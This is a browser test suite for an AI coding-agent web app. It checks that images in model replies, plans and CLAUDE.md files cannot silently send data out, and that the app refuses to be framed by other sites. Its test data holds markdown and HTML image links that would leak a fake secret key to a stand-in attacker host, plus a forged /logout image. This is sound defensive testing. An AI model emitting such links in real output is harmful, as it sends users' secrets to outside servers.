"""What the model writes cannot reach out (spec J6), in Chromium against `python main.py`.

An image in a reply, a plan or a CLAUDE.md points at a listener on another loopback address (another
origin, like an attacker's server): rendering the page must send it nothing; clicking the placeholder
opens the image in a new tab, and only then does the listener hear from the browser. The app refuses
to be framed by another site.
"""

from __future__ import annotations

import contextlib
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Error as PlaywrightError
from playwright.sync_api import Page, expect

from tests.browser import ui_support
from tests.browser.ui_support import (
    TURN_TIMEOUT_MS,
    disk_job,
    disk_projects,
    expect_status,
    new_project_with_job,
    wait_for,
)
from tests.support.scripted_model import text, tool_use

# One server per module (see ui_support): each test works in a project of its own.
server, scripted_model, fresh_model = ui_support.server, ui_support.scripted_model, ui_support.fresh_model

SECRET = "sk-ant-FAKE-SECRET-42"
SETTLE_S = 2.0  # after rendering: long enough for any image request the page would make to arrive
PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                    "1f15c4890000000d49444154789c6360f80f0000010101005bd6d1a80000000049454e44ae426082")


@dataclass
class Listener:
    """An HTTP server on 127.0.0.2 that records every request and serves the pages it is given."""

    url: str
    pages: dict[str, str] = field(default_factory=dict)
    requests: list[dict[str, str]] = field(default_factory=list)

    def paths(self) -> list[str]:
        """The paths requested, but for the icon a tab opened on the listener asks for by itself."""
        return [r["path"] for r in self.requests if r["path"] != "/favicon.ico"]


@pytest.fixture
def listener() -> Iterator[Listener]:
    record: Listener

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, format: str, *args) -> None:  # quiet
            pass

        def do_GET(self) -> None:
            record.requests.append({"path": self.path, **{k.lower(): v for k, v in self.headers.items()}})
            page = record.pages.get(self.path.split("?")[0])
            body, kind = (page.encode(), "text/html") if page is not None else (PNG, "image/png")
            self.send_response(200)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    http = ThreadingHTTPServer(("127.0.0.2", 0), Handler)
    record = Listener(f"http://127.0.0.2:{http.server_address[1]}")
    thread = threading.Thread(target=http.serve_forever, daemon=True)
    thread.start()
    try:
        yield record
    finally:
        http.shutdown()
        http.server_close()


def csp_errors(page: Page) -> list[str]:
    return [e for e in page.errors if "Content Security Policy" in e or "Refused to" in e]


def assert_nothing_reached(listener: Listener, page: Page) -> None:
    time.sleep(SETTLE_S)
    assert listener.requests == [], f"the page fetched from the listener: {listener.paths()}"
    # Nothing was even attempted: the CSP (which would refuse it) had nothing to refuse, the app included.
    assert not csp_errors(page), page.errors


def open_by_click(page: Page, placeholder, listener: Listener, path: str, keyboard: bool = False) -> None:
    """Clicking (or Enter) opens the image in a new tab, which loads it (the first request), without a referrer."""
    with page.context.expect_page() as opened:
        if keyboard:
            placeholder.focus()
            page.keyboard.press("Enter")
        else:
            placeholder.click()
    tab = opened.value
    wait_for(lambda: any(p.startswith(path) for p in listener.paths()), timeout=15, what=f"a request for {path}")
    [request] = [r for r in listener.requests if r["path"].startswith(path)]
    assert SECRET in request["path"]
    assert "referer" not in request, request
    assert tab.evaluate("window.opener") is None  # noopener: the image's page cannot reach back
    tab.close()


def test_images_in_a_reply_and_in_claude_md_load_only_when_clicked(server, page, steps, scripted_model, listener):
    host = listener.url.removeprefix("http://")
    scripted_model.add_response(text(
        f"Read it. ![the chart]({listener.url}/md.png?d={SECRET})\n\n"
        f'Also <img src="{listener.url}/raw.png?d={SECRET}" alt="raw"> and <img src="/logout">.'))
    requested: list[str] = []  # everything the page asks for, same-server paths included
    page.on("request", lambda request: requested.append(request.url))
    job_id = new_project_with_job(steps, page, "leak-reply", "read the secret file")

    reply = page.get_by_test_id("assistant-text")
    expect(reply).to_contain_text("Read it.", timeout=TURN_TIMEOUT_MS)
    shown = reply.locator(".ccs-remote-image")
    expect(shown).to_have_count(3)
    expect(shown.nth(0)).to_have_text(f"Image from {host}: the chart — open")
    expect(shown.nth(1)).to_have_text(f"Image from {host}: raw — open")
    expect(shown.nth(2)).to_have_text("Image from this server — open")
    expect(shown.nth(0)).to_be_visible()
    expect(reply.locator("img")).to_have_count(0)
    expect_status(page, "idle")
    assert_nothing_reached(listener, page)
    assert not [url for url in requested if "/logout" in url or SECRET in url], requested

    # The project's CLAUDE.md, viewed in the Memories tab.
    project_id = disk_job(server.projects_root, job_id)["project_id"]
    root = Path(disk_projects(server.projects_root)[project_id]["path"])
    (root / "CLAUDE.md").write_text(f"# Rules\n\n![logo]({listener.url}/memory.png?d={SECRET})\n\n"
                                    f'<img srcset="{listener.url}/memory-set.png?d={SECRET} 2x">\n')
    page.get_by_test_id("tab-memories").click()
    page.locator("[data-testid=memory-file][data-id='project']").click()
    view = page.get_by_test_id("memory-view")
    expect(view.locator("h1")).to_have_text("Rules")
    expect(view.locator(".ccs-remote-image")).to_have_count(2)
    expect(view.locator(".ccs-remote-image").first).to_contain_text(f"Image from {host}: logo")
    expect(view.locator("img")).to_have_count(0)
    assert_nothing_reached(listener, page)

    open_by_click(page, view.locator(".ccs-remote-image").first, listener, "/memory.png")
    page.get_by_test_id("tab-chat").click()
    open_by_click(page, shown.nth(1), listener, "/raw.png")
    assert sorted(listener.paths()) == sorted([f"/memory.png?d={SECRET}", f"/raw.png?d={SECRET}"])
    assert not csp_errors(page), page.errors


def test_an_image_in_a_plan_is_a_placeholder(page, steps, scripted_model, listener):
    host = listener.url.removeprefix("http://")
    plan = f"# Plan\n\n1. Upload ![progress]({listener.url}/plan.png?d={SECRET})\n2. Done"
    scripted_model.add_response(tool_use("ExitPlanMode", {"plan": plan}))
    scripted_model.add_response(text("Approved."))
    new_project_with_job(steps, page, "leak-plan", "plan it", permission_mode="plan")

    card = page.get_by_test_id("transcript").locator("[data-testid=approval-card][data-kind=plan]")
    expect(card).to_contain_text("Review the plan", timeout=TURN_TIMEOUT_MS)
    expect(card.locator(".ccs-remote-image")).to_have_text(f"Image from {host}: progress — open")
    expect(card.locator("img")).to_have_count(0)
    assert_nothing_reached(listener, page)
    open_by_click(page, card.locator(".ccs-remote-image"), listener, "/plan.png", keyboard=True)

    card.get_by_test_id("approve").click()
    expect(page.get_by_test_id("assistant-text")).to_have_text("Approved.", timeout=TURN_TIMEOUT_MS)
    assert listener.paths() == [f"/plan.png?d={SECRET}"]


def test_another_site_cannot_frame_the_app(server, new_page, listener):
    listener.pages["/frame-login.html"] = f'<h1>outer</h1><iframe src="{server.url}/login"></iframe>'
    listener.pages["/frame-app.html"] = f'<h1>outer</h1><iframe src="{server.url}/"></iframe>'
    page = new_page(server)  # logged in: the app itself would render if it could be framed
    for outer in ("/frame-login.html", "/frame-app.html"):
        page.errors.clear()
        page.goto(listener.url + outer)
        expect(page.locator("h1")).to_have_text("outer")
        page.wait_for_load_state("load")
        frame = page.frames[1]
        wait_for(lambda f=frame: f.url.startswith("chrome-error:"), timeout=15,
                 what="Chromium to refuse the frame")
        rendered = 0
        with contextlib.suppress(PlaywrightError):  # Chromium's error page may not even be readable
            rendered = frame.locator("input, #app").count()
        assert rendered == 0
        assert any("frame-ancestors" in e or "X-Frame-Options" in e for e in page.errors), page.errors


@pytest.mark.parametrize("path", ["/", "/login", "/api/projects"])
def test_every_response_forbids_framing_and_carries_the_content_policy(server, path):
    with server.client() as anonymous, server.bearer() as script:
        for client in (anonymous, script):
            response = client.get(path)
            policy = response.headers.get("content-security-policy", "")
            assert "frame-ancestors 'none'" in policy, (client.headers, response.status_code, policy)
            assert "img-src 'self' data: blob:" in policy
            assert response.headers.get("x-frame-options") == "DENY"

